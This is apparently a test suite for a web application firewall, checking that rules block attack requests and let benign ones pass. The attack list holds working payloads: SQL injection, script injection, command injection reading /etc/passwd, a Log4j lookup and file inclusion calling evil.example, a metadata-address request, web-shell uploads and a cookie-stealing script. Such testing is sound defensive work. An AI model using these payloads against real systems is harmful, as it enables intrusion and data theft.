import assert from 'node:assert/strict'
import { test } from 'node:test'
import { createWaf } from './engine/create-waf.ts'
import type { TestRequest } from './engine/testing.ts'
import { ask } from './engine/testing.ts'
import type { Waf } from './engine/waf.ts'

const { waf, diagnostics } = await createWaf({
  rules: ['core'],
  settings: { budget: Number.POSITIVE_INFINITY },
})

test('the built-in rules compile without a word', () => {
  assert.deepEqual(diagnostics, [])
  assert.ok(waf)
})

const json = { 'Content-Type': 'application/json' }
const form = { 'Content-Type': 'application/x-www-form-urlencoded' }
const browser = {
  Host: 'api.example.com',
  Accept: 'application/json, text/plain, */*',
  'Accept-Language': 'en-GB,en;q=0.9,de;q=0.8',
  'User-Agent':
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  Referer: 'https://shop.example.com/search?q=select+a+size&sort=price:asc',
  Origin: 'https://shop.example.com',
  Cookie: '_ga=GA1.2.1234567890.1700000000; theme=dark; cart={%22items%22:[1,2]}; s=s%3AabcDEF.sig%2Bpart',
}

/** A form with one file in it. */
function upload(fileName: string, content: string): TestRequest {
  return {
    method: 'POST',
    headers: { 'Content-Type': 'multipart/form-data; boundary=b0b' },
    body: `--b0b\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: image/png\r\n\r\n${content}\r\n--b0b--\r\n`,
  }
}

const attacks: readonly (readonly [string, number, TestRequest])[] = [
  ['SQL in a parameter', 2041, { target: '/items?id=1%20or%201=1' }],
  [
    'SQL in a field of JSON',
    2041,
    { method: 'POST', headers: json, body: `{"user":{"name":"' OR '1'='1"}}` },
  ],
  [
    'SQL in an element of a JSON array',
    2041,
    { method: 'POST', headers: json, body: `{"ids":[1,"2 UNION SELECT password FROM users"]}` },
  ],
  ['SQL with plus signs in JSON', 2041, { method: 'POST', headers: json, body: `{"a":"'+(select 1)+'"}` }],
  ['SQL percent-encoded twice', 2041, { target: '/items?id=1%2527%2520or%2520%25271%2527=%25271' }],
  ['SQL in the last segment of a path', 2042, { target: "/users/1'%20or%20'1'='1" }],
  ['SQL in a header field', 2043, { headers: { 'X-Forwarded-For': "127.0.0.1' or sleep(5)-- " } }],
  ['SQL in a cookie', 2041, { headers: { Cookie: "id=1' or '1'='1" } }],
  [
    'a script in a form',
    2051,
    { method: 'POST', headers: form, body: 'comment=%3Cscript%3Ealert(1)%3C/script%3E' },
  ],
  ['a script in a name', 2051, { target: '/?%3Csvg/onload=alert(1)%3E=1' }],
  ['a script in a user agent', 2052, { headers: { 'User-Agent': '<script>alert(1)</script>' } }],
  ['a command', 2061, { target: '/ping?host=127.0.0.1;cat%20/etc/passwd' }],
  ['a shellshock', 2063, { headers: { 'User-Agent': '() { :;}; /bin/bash -c "id"' } }],
  ['a template', 2065, { method: 'POST', headers: json, body: '{"name":"{{7*7}}"}' }],
  [
    'a lookup of Log4j in a header field',
    2066,
    { headers: { 'X-Api-Version': '${jndi:ldap://evil.example/a}' } },
  ],
  [
    'the class loader of Java',
    2067,
    { method: 'POST', headers: form, body: 'class.module.classLoader.resources=x' },
  ],
  ['a path that climbs', 2071, { target: '/file?name=../../../../etc/passwd' }],
  ['a path that climbs in the path', 2072, { target: '/static/..%2f..%2f..%2fetc/passwd' }],
  [
    'an address of metadata',
    2075,
    { method: 'POST', headers: json, body: '{"url":"http://169.254.169.254/latest/meta-data/"}' },
  ],
  [
    'an operator as a key of JSON',
    2081,
    { method: 'POST', headers: json, body: '{"user":"a","password":{"$ne":null}}' },
  ],
  ['an operator as a key of a parameter', 2081, { target: '/login?user=a&password[$ne]=x' }],
  ['an LDAP filter', 2082, { target: '/people?q=*)(uid=*))(|(uid=*' }],
  ['an XPath query', 2083, { target: "/x?q='%5D%20|%20//user/*%5Bcontains(*,'" }],
  ['a header field behind a line break', 2084, { target: '/go?to=x%0d%0aSet-Cookie:%20a=b' }],
  [
    'an object of Java',
    2085,
    { method: 'POST', headers: json, body: '{"state":"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"}' },
  ],
  ['a prototype', 2086, { method: 'POST', headers: json, body: '{"__proto__":{"admin":true}}' }],
  ['a file of the repository', 2015, { target: '/.git/config' }],
  ['a scanner', 2014, { headers: { 'User-Agent': 'sqlmap/1.8#stable (https://sqlmap.org)' } }],
  [
    'SQL in the escapes of JavaScript',
    2041,
    { target: String.raw`/items?id=1\u0020union\u0020select\u00201,2` },
  ],
  ['a script in references of HTML', 2051, { target: '/?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;' }],
  [
    'an attribute of XML',
    2041,
    { method: 'POST', headers: { 'Content-Type': 'text/xml' }, body: `<a id="1' or '1'='1"/>` },
  ],
  ['SQL in a header field of any name', 2043, { headers: { 'X-Tenant': "7' union select 1,2 -- " } }],
  ['a command in a header field of any name', 2063, { headers: { 'X-Format': 'pdf;cat /etc/passwd' } }],
  ['a path in a header field', 2073, { headers: { 'X-File': '../../../etc/passwd' } }],
  ['a class of Java', 2064, { target: '/x?type=java.lang.ProcessBuilder' }],
  ['code of PHP', 2068, { target: '/x?f=base64_decode(%27aWQ=%27)' }],
  ['code of Node', 2069, { target: "/x?f=require('child_process').exec('id')" }],
  ['a name that an attack calls back', 2070, { target: '/x?url=https://abc123.oast.live/' }],
  ['a program included from afar', 2077, { target: '/x?base_path=http://evil.example/c.txt' }],
  ['an environment file', 2015, { target: '/api/.env.production' }],
  ['a key that was left lying', 2015, { target: '/keys/server.pem' }],
  ['a door of another program', 2016, { target: '/wp-login.php' }],
  ['a line break in the path', 2017, { target: '/items/a%0d%0ab' }],
  ['a script in base64', 2051, { target: '/x?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg' }],
  [
    'a path in base64, percent-encoded before',
    2071,
    { headers: { Cookie: 'view=Li4lMmYuLiUyZi4uJTJmZXRjJTJmcGFzc3dk' } },
  ],
  [
    'an operator in base64 of JSON',
    2081,
    { method: 'POST', headers: form, body: 'state=eyJ1c2VyIjp7IiRuZSI6bnVsbH19' },
  ],
  ['a command in overlong UTF-8', 2061, { target: '/x?host=a%c0%bbcat%20/etc/passwd' }],
  ['a template in wide characters', 2065, { target: '/x?q=%EF%BD%9B%EF%BD%9B7*7%EF%BD%9D%EF%BD%9D' }],
  ['a path inside JSON in a parameter', 2071, { target: '/x?filter=%7B%22file%22%3A%22/etc/passwd%22%7D' }],
  [
    'GraphQL that asks for the schema',
    2115,
    {
      method: 'POST',
      target: '/graphql',
      headers: json,
      body: '{"query":"query { __schema { types { name } } }"}',
    },
  ],
  [
    'GraphQL in a parameter that asks for a type',
    2116,
    { target: '/api?query=%7B__type(name:%22User%22)%7Bname%7D%7D' },
  ],
  [
    'GraphQL with more selections inside one another than anybody needs',
    2111,
    {
      method: 'POST',
      target: '/graphql',
      headers: json,
      body: JSON.stringify({ query: `{${'a{'.repeat(25)}b${'}'.repeat(25)}}` }),
    },
  ],
  [
    'GraphQL that asks one question a hundred times',
    2112,
    {
      method: 'POST',
      target: '/graphql',
      headers: json,
      body: JSON.stringify({
        query: `{${Array.from({ length: 100 }, (_, at) => `a${at}:login(pin:${at})`).join(' ')}}`,
      }),
    },
  ],
  [
    'a batch of GraphQL',
    2113,
    {
      method: 'POST',
      target: '/graphql',
      headers: json,
      body: JSON.stringify(Array.from({ length: 20 }, () => ({ query: '{ me { name } }' }))),
    },
  ],
  [
    'SQL in an argument of GraphQL',
    2041,
    {
      method: 'POST',
      target: '/graphql',
      headers: json,
      body: JSON.stringify({ query: `{ user(name: "x' OR '1'='1") { id } }` }),
    },
  ],
  ['SQL in place of pairs', 2041, { target: "/x?admin'%20AND%20'1'='2" }],
  ['an LDAP filter in place of pairs', 2082, { target: '/x?*)(uid=*))(|(uid=*' }],
  ['a command in the middle of a path', 2062, { target: '/x/;cat%20/etc/passwd/y' }],
  [
    'SQL parted by characters that nobody sees',
    2041,
    { target: '/x?q=1%20un%e2%80%8bion%20sel%e2%80%8bect%201,2' },
  ],
  ['a path in a referer', 2073, { headers: { Referer: '../../../../etc/passwd' } }],
  ['a function of the page that is handed on', 2051, { target: '/x?q=%5B1%5D.map(alert)' }],
  ['a glob that a shell fills in', 2061, { target: '/x?host=a;cat%2B/e??/pa???d' }],
  ['a page of PHP that calls itself a text', 2121, upload('notes.txt', '<?php echo "x"; ?>')],
  ['a page of JSP that calls itself a picture', 2121, upload('cat.png', '<% out.println("hello");%>')],
  [
    'an external entity in a file',
    2121,
    upload('a.xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>'),
  ],
  [
    'a picture that runs a script',
    2122,
    upload('a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><g/><script>fetch("/me")</script></svg>'),
  ],
  [
    'code of JSP in a field',
    2123,
    { method: 'POST', headers: form, body: 'content=%3C%25%20out.print(%22x%22)%3B%25%3E' },
  ],
  ['a call of PHP that shows a digest', 2124, { target: '/x?a=printf(md5(4711))' }],
  ['a condition of a template of PHP', 2124, { target: '/search?wd=%7Bif-A:printf(1)%7D%7Bendif-A%7D' }],
  ['an element that is rendered by a function', 2125, { target: '/x?name%5B%23post_render%5D%5B%5D=printf' }],
  ['a variable of the linker', 2125, { target: '/x?LD_PRELOAD=/tmp/a.so' }],
  ['a page written by PUT', 2126, { method: 'PUT', target: '/files/a.jsp', body: 'x' }],
  ['a command in a field that is called one', 2127, { target: '/run?cmd=ipconfig%20/all' }],
  [
    'a command in a field of JSON that is called one',
    2127,
    { method: 'POST', headers: json, body: '{"params":["file","exec",{"command":"id"}]}' },
  ],
  [
    'a path in base64 that is percent-encoded inside',
    2071,
    { target: '/x?q=JTI1MkUlMjUyRSUyNTJGZXRjJTI1MkZwYXNzd2Q' },
  ],
  [
    'a query of JSON escapes that are percent-encoded inside',
    2041,
    { target: '/x?q=%5Cu0025%5Cu0032%5Cu0037%20or%201=1--%20' },
  ],
  ['a short template in base64', 2065, { target: '/x?q=I3sxKjF9' }],
  [
    'a script in a cookie header that is cut at its semicolons',
    2141,
    { headers: { Cookie: "<audio ontimeupdate='let a=document;location=`//x?${a.cookie}`'>" } },
  ],
  ['a wrapper in place of a cookie', 2071, { headers: { Cookie: 'php://filter/read=a/resource=x' } }],
  ['an operator of a document database in a header field', 2081, { headers: { 'X-Filter': 'user[$ne]' } }],
  [
    'a driver that is made to run a script',
    2075,
    { method: 'POST', headers: json, body: `{"url":"jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://x/a.sql'"}` },
  ],
  ['a tag behind the end of another', 2051, { target: '/x?next=%22%3E%3Ch1%3Ea%3C/h1%3E' }],
  ['a page that is asked for another page', 2135, { target: '/view.jsp?file=index.jsp' }],
  ['a page that is given a quote', 2135, { target: '/language.php?flag=edit&type=%27' }],
  ['a number that a quote follows', 2129, { target: '/items?id=12%27' }],
  ['a script in base64 at the end of a path', 2051, { target: '/PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+' }],
  ['a field of any name behind a line break', 2084, { target: '/x?lang=en%0d%0aX-Any-Name:1' }],
  ['a body that is not what it says', 2011, { method: 'POST', headers: json, body: '{"a":' }],
]

for (const [name, id, request] of attacks) {
  test(`${name} is refused by rule ${id}`, () => {
    const { ids, verdict } = ask(waf as Waf, {
      ...request,
      headers: { Host: 'api.example.com', ...request.headers },
    })
    assert.ok(ids.includes(id), `matched: ${ids.join(', ')}`)
    assert.equal(verdict.kind, 'block')
  })
}

const harmless: readonly (readonly [string, TestRequest])[] = [
  ['a plain GET', { target: '/v1/orders' }],
  [
    'a search in words of SQL',
    { target: '/search?q=select+one+from+the+list+or+drop+it&sort=-price,name&page=2' },
  ],
  ['a filter', { target: '/items?filter=price%20gt%2010%20and%20price%20lt%2050&fields=id,name' }],
  ['a name with an apostrophe', { target: "/people?name=O'Brien&city=L'Aquila" }],
  [
    'an address to come back to',
    { target: '/authorize?redirect_uri=http://localhost:3000/callback&state=a-b_c' },
  ],
  ['a link', { method: 'POST', headers: json, body: '{"url":"https://example.com/a/b?x=1&y=2#top"}' }],
  ['a path with an identifier', { target: '/v1/users/a1b2c3d4-e5f6-7890-abcd-ef1234567890/orders/42' }],
  [
    'an order',
    {
      method: 'POST',
      headers: json,
      body: JSON.stringify({
        customer: { name: "Siobhán O'Connor", email: 'siobhan+shop@example.ie', phone: '+353 (1) 555-0123' },
        items: [{ sku: 'TV-55"', title: 'Samsung 55" QLED; wall mount & cable', price: 1299.0, count: 2 }],
        note: "Please ring twice -- the bell doesn't always work. Leave it with no. 5 or 7 if I'm out!",
        discount: null,
      }),
    },
  ],
  [
    'an article in Markdown',
    {
      method: 'POST',
      headers: json,
      body: JSON.stringify({
        title: 'How to select a database',
        body: "# Joins\n\nUse `npm install pg`, then read about **UNION** and *GROUP BY*.\n\n> It's easy; 5 > 3 and x < 4.\n\n- [x] done\n",
      }),
    },
  ],
  [
    'a form',
    {
      method: 'POST',
      headers: form,
      body: 'name=Ada+Lovelace&message=I+like+cats+%26+dogs%3B+and+you%3F&agree=true',
    },
  ],
  [
    'an upload of a browser whose boundary has the word in it',
    {
      method: 'POST',
      headers: { 'Content-Type': 'multipart/form-data; boundary=----WebKitFormBoundaryJl8O6PWudNUIcH6F' },
      body: '------WebKitFormBoundaryJl8O6PWudNUIcH6F\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n------WebKitFormBoundaryJl8O6PWudNUIcH6F--\r\n',
    },
  ],
  [
    'a picture whose address ends in a question mark',
    { method: 'POST', headers: json, body: '{"avatar_url":"https://avatars.example.com/u/6?"}' },
  ],
  [
    'a bulk of two thousand values',
    {
      method: 'POST',
      headers: json,
      body: JSON.stringify(Array.from({ length: 2_000 }, (_, id) => ({ id }))),
    },
  ],
  ['a token and an identifier in base64', { target: '/x?token=eyJhbGciOiJub25lIn0&id=dXNlcl80Mg' }],
  [
    'a session in base64',
    { headers: { Cookie: 'koa.sess=eyJ1c2VyIjoiYWRhIiwidmlld3MiOjEsIl9leHBpcmUiOjE3NjQzNjAwMDAwMDB9' } },
  ],
  [
    'a filter of JSON in a parameter',
    { target: '/items?filter=%7B%22price%22%3A%7B%22lt%22%3A5%7D%2C%22name%22%3A%22select+one%22%7D' },
  ],
  ['a picture', upload('cat.png', '\x89PNG\r\n\x1a\n\0\0<?=<%\xff\xfe')],
  ['a drawing', upload('logo.svg', '<svg viewBox="0 0 9 9"><title>on top</title><path d="M0 0"/></svg>')],
  [
    'a large file with code far behind its beginning',
    upload('film.mp4', `${'\0\x01film'.repeat(20_000)}<?php echo 1;`),
  ],
  ['a table of prices', upload('prices.csv', 'name,on sale,price\r\n"5\' board",yes,12\r\n')],
  [
    'a command that is none of a shell',
    { method: 'POST', headers: json, body: '{"command":"start","exec":true}' },
  ],
  ['a ping of a service', { target: '/api?cmd=ping' }],
  ['a document written by PUT', { method: 'PUT', target: '/files/report.pdf', body: 'x' }],
  [
    'an element in its markup',
    { method: 'POST', headers: json, body: '{"html":"<a href=\\"/a\\"><b>bold</b></a>"}' },
  ],
  ['a cookie with a document in it', { headers: { Cookie: 'prefs={"theme":"dark","ids":[1,2]}; lang=en' } }],
  [
    'the address of a database',
    { method: 'POST', headers: json, body: '{"url":"jdbc:postgresql://db.example.com/shop?ssl=true"}' },
  ],
  ['a page of a server', { target: '/account/view.php?page=2&sort=name' }],
  ['a page of a server in a field', { target: '/v1/files?path=src/index.php' }],
  ['a number of feet', { target: '/boards?length=6%27&name=5%27' }],
  [
    'what a page reports about its visitor',
    {
      method: 'POST',
      headers: json,
      body: '{"events":[{"user_properties":{"$set":{"plan":"pro"}},"path":"//*[@id=\\"bar\\"]/div[1]/a[2]","href":"javascript:void(0);"}]}',
    },
  ],
  [
    'a page that was found by searching for SQL',
    { headers: { Referer: 'https://search.example/?q=select%201%20from%20a' } },
  ],
  ['files under well-known and in a tree', { target: '/.well-known/jwks.json' }],
  ['the content of a repository', { target: '/repos/ada/engine/contents/.github/workflows/test.yml' }],
  [
    'a query of GraphQL at an address that says so',
    {
      method: 'POST',
      target: '/graphql',
      headers: json,
      body: '{"operationName":"Orders","query":"query Orders($id: ID!) { user(id: $id) { __typename name orders(first: 10) { total note(like: \\"it\'s\\") } } }","variables":{"id":"42"}}',
    },
  ],
  [
    'a query of GraphQL',
    {
      method: 'POST',
      headers: json,
      body: '{"query":"query($id: ID!) { user(id: $id) { name orders(first: 10) { total } } }","variables":{"id":"42"}}',
    },
  ],
]

for (const [name, request] of harmless) {
  test(`${name} passes`, () => {
    const { ids, verdict } = ask(waf as Waf, { ...request, headers: { ...browser, ...request.headers } })
    assert.deepEqual(ids, [])
    assert.equal(verdict.kind, 'pass')
  })
}
